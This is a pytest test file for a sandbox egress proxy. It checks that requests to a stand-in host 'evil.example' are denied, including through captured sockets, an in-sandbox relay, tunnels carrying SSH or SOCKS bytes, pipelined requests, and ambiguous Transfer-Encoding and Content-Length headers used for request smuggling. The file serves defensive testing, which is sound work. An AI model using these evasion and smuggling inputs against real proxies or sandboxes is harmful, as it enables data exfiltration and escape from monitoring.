"""The proxy's wire protocol: a verdict for each request, by session, destination and port alone."""
import re

import pytest

from test_egress import ALLOW, raw

GET = 'GET http://{0}{1} HTTP/1.1\\r\\nHost: {0}\\r\\n\\r\\n'


def connections(isod):
    return [e for e in isod.audit(isod.last_session()['id']) if e['event'] == 'connection']


def test_plain_http_is_checked(isod, web):
    """Case 47: absolute form: 403, one entry, nothing sent."""
    before = web.requests()
    answer = raw(isod, GET.format('evil.example', '/log?x=1'), 'once')
    assert answer.startswith("b'HTTP/1.1 403 ") and web.requests() == before, answer
    denied = connections(isod)
    assert len(denied) == 1 and denied[0]['verdict'] == 'deny' and denied[0]['name'] == 'evil.example', denied
    assert denied[0]['port'] == 80 and denied[0]['reason'] == 'not-listed', denied


CAPTURED = r'''
import socket, sys
s = socket.socket(); s.settimeout(20)
s.connect((socket.gethostbyname(sys.argv[1]), 80))
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode("latin1"))
data = b""
try:
    while b"\r\n\r\n" not in data:
        more = s.recv(65536)
        if not more: break
        data += more
except OSError: pass
print("b'" + repr(data[:2000])[2:-1] + "'")
'''


def test_captured_http_with_another_host(isod, web):
    """Case 47 by capture: the address is the one of an allowed name, the request names another."""
    before = web.requests()
    for line in ('GET /log HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', 'GET http://evil.example/log HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'):
        r = isod.run('/usr/bin/python3', '-c', CAPTURED, 'ok.example', line, options=ALLOW)
        assert r.rc == 0 and re.match(r"b'HTTP/1.1 40[03] ", r.text), r
        assert web.requests() == before
        assert [e['verdict'] for e in connections(isod)] == ['deny'], connections(isod)


RELAY = r'''
import socket, subprocess, sys, threading
def copy(a, b):
    while True:
        try: data = a.recv(65536)
        except OSError: data = b""
        if not data: break
        b.sendall(data)
    try: b.shutdown(1)
    except OSError: pass
server = socket.create_server(("127.0.0.1", 8888))
def serve():
    while True:
        c, _ = server.accept()
        p = socket.create_connection(("127.0.0.1", 61080))
        threading.Thread(target=copy, args=(c, p), daemon=True).start()
        threading.Thread(target=copy, args=(p, c), daemon=True).start()
threading.Thread(target=serve, daemon=True).start()
for url in sys.argv[1:]:
    r = subprocess.run(["curl", "-sS", "-k", "-o", "/dev/null", "-w", "%{http_connect} %{http_code}\n", "--noproxy", "", "-x",
                        "http://127.0.0.1:8888", "--max-time", "20", url], capture_output=True, text=True)
    print(r.stdout.strip(), "|", r.returncode)
'''


def test_a_relay_inside_changes_nothing(isod, web):
    """Case 49."""
    before = web.requests()
    r = isod.run('/usr/bin/python3', '-c', RELAY, 'https://evil.example/', 'http://evil.example/', options=ALLOW)
    lines = r.text.splitlines()
    assert lines[0].startswith('403 000 |') and lines[1].startswith('000 403 |') and web.requests() == before, r
    r = isod.run('/usr/bin/python3', '-c', RELAY, 'https://ok.example/hello', 'http://ok.example/hello', options=ALLOW)
    assert [line.split(' |')[0] for line in r.text.splitlines()] == ['200 200', '000 200'], r


@pytest.mark.parametrize('inner', ['CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n', 'SSH-2.0-x\\r\\n',
                                   '\\x05\\x01\\x00', 'GET http://evil.example/ HTTP/1.1\\r\\n\\r\\n'])
def test_a_proxy_inside_a_tunnel(isod, web, inner):
    """Case 50: on 443 the first bytes are a ClientHello, or the tunnel ends with an entry."""
    before = web.requests()
    answer = raw(isod, 'CONNECT ok.example:443 HTTP/1.1\\r\\nHost: ok.example:443\\r\\n\\r\\n' + inner)
    assert 'evil' not in answer and web.requests() == before, answer
    entries = connections(isod)
    assert len(entries) == 1 and entries[0]['verdict'] == 'deny' and entries[0]['reason'] == 'not-tls', entries


def test_bytes_after_the_first_request(isod, web):
    """Case 52: two requests in one write, the second to a host that is not allowed; the upstream sees one."""
    before = web.requests()
    answer = raw(isod, GET.format('ok.example', '/hello') + GET.format('evil.example', '/secret'))
    assert answer.count('hello from nginx') == 1 and answer.count('HTTP/1.1 403') == 1, answer
    new = web.requests()[len(before):]
    assert new.count('GET ') == 1 and 'secret' not in new, new
    assert [e['verdict'] for e in connections(isod)] == ['allow', 'deny'], connections(isod)


@pytest.mark.parametrize('body', ['Content-Length: 4\\r\\n\\r\\nabcd', 'Transfer-Encoding: chunked\\r\\n\\r\\n4\\r\\nabcd\\r\\n0\\r\\n\\r\\n'])
def test_bytes_after_a_body(isod, web, body):
    """Case 52 with bodies: the request after the framed bytes is judged by itself."""
    before = web.requests()
    answer = raw(isod, f'POST http://ok.example/echo HTTP/1.1\\r\\nHost: ok.example\\r\\n{body}' + GET.format('evil.example', '/secret'))
    assert answer.count('POST /echo') == 1 and answer.count('HTTP/1.1 403') == 1, answer
    assert web.requests()[len(before):].count('HTTP/1.') == 1


def test_several_hosts_on_one_connection(isod, web):
    """Case 53: the right answer from each, in order, the third refused."""
    answer = raw(isod, GET.format('ok.example', '/host') + GET.format('two.example', '/host') + GET.format('evil.example', '/host'),
                 options=[*ALLOW, '--allow-domain', 'two.example'])
    found = re.findall(r'ok\.example 127|two\.example 127|HTTP/1\.1 403', answer)
    assert found == ['ok.example 127', 'two.example 127', 'HTTP/1.1 403'], answer


# Cases 55 and 56: what one hop and the next may read differently.
HEADS = ['Transfer-Encoding: chunked\\t', 'Transfer-Encoding: chunked ', 'Transfer-Encoding: identity, chunked', 'Transfer-Encoding: xchunked',
         'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: chunked', 'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity',
         'Transfer-Encoding:\\r\\n chunked', 'Transfer-Encoding: \\x0bchunked', 'Transfer-Encoding: "chunked"', 'Transfer-Encoding : chunked',
         'Content-Length: 46\\r\\nContent-Length: 0', 'Content-Length: +5', 'Content-Length: -5', 'Content-Length: 5,5',
         'Content-Length: 0x5', 'Content-Length: 12345678901234567890', 'Content-Length: ', 'Content-Length: 5 5',
         'Transfer-Encoding: chunked\\r\\nContent-Length: 5']


@pytest.mark.parametrize('way', ['proxy', 'capture'])
@pytest.mark.parametrize('head', HEADS)
def test_framing_that_can_be_read_in_two_ways(isod, web, head, way):
    before = web.requests()
    if way == 'proxy':
        answer = raw(isod, f'POST http://ok.example/echo HTTP/1.1\\r\\nHost: ok.example\\r\\n{head}\\r\\n\\r\\nabcde')
    else:
        r = isod.run('/usr/bin/python3', '-c', CAPTURED, 'ok.example', f'POST /echo HTTP/1.1\\r\\nHost: ok.example\\r\\n{head}\\r\\n\\r\\nabcde',
                     options=ALLOW)
        answer = r.text
    if head.endswith(' ') and head.startswith('Transfer'):
        # A blank at the end is not part of the value; it is passed on without it, or refused.
        assert re.match(r"b'HTTP/1.1 (400|200) ", answer), answer
        return
    assert answer.startswith("b'HTTP/1.1 400 ") and web.requests() == before, answer


def test_chunked_on_http_1_0(isod, web):
    """Case 55."""
    before = web.requests()
    answer = raw(isod, 'POST http://ok.example/echo HTTP/1.0\\r\\nHost: ok.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')
    assert re.match(r"b'HTTP/1.[01] 400 ", answer) and web.requests() == before, answer


@pytest.mark.parametrize('chunk', ['-1\\r\\nabc', '+1\\r\\na', '0x1\\r\\na', 'fffffffffffffffff\\r\\na', ' 1\\r\\na', '1\\na', ';\\r\\n',
                                   '1;' + 'x' * 65536 + '\\r\\na\\r\\n0\\r\\n\\r\\n'])
def test_chunk_sizes(isod, web, chunk):
    """Case 56: the request ends in an error, whatever has gone out already; what follows is never taken for a request."""
    answer = raw(isod, 'POST http://ok.example/echo HTTP/1.1\\r\\nHost: ok.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' + chunk +
                 GET.format('ok.example', '/hello'))
    assert 'HTTP/1.1 200' not in answer and 'hello from nginx' not in answer, answer


def test_equal_lengths_may_be_one(isod, web):
    """Case 56: merged or refused, never passed on twice."""
    answer = raw(isod, 'POST http://ok.example/echo HTTP/1.1\\r\\nHost: ok.example\\r\\nContent-Length: 4\\r\\nContent-Length: 4\\r\\n\\r\\nabcd', 'once')
    assert re.match(r"b'HTTP/1.1 (400|200) ", answer), answer
